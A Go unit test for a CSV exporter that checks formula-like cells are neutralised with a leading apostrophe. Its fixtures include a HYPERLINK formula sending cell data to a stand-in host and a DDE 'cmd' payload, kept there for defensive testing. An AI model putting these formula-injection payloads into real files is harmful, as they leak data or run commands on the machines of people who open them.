package export

import (
	"bytes"
	"encoding/csv"
	"testing"
)

// TestCSVFormulaInjection: a cell a person typed that a spreadsheet would
// read as a formula goes out as text; numbers we write stay numbers.
func TestCSVFormulaInjection(t *testing.T) {
	cases := []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?"&A1;"Жми")`, `'=HYPERLINK("http://evil.example/?"&A1;"Жми")`},
		{"+1+2", "'+1+2"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"Рисование для малышей", "Рисование для малышей"},
		{"-100,50", "-100,50"},
		{"-100.50", "-100.50"},
		{"42", "42"},
	}
	rows := make([][]string, len(cases))
	for i, c := range cases {
		rows[i] = []string{c.in}
	}
	b, err := CSV(Table{Header: []string{"=Заголовок"}, Rows: rows})
	if err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\ufeff"))))
	r.Comma = ';'
	got, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got[0][0] != "'=Заголовок" {
		t.Errorf("header cell = %q", got[0][0])
	}
	for i, c := range cases {
		if got[i+1][0] != c.want {
			t.Errorf("cell %q written as %q, want %q", c.in, got[i+1][0], c.want)
		}
	}
}
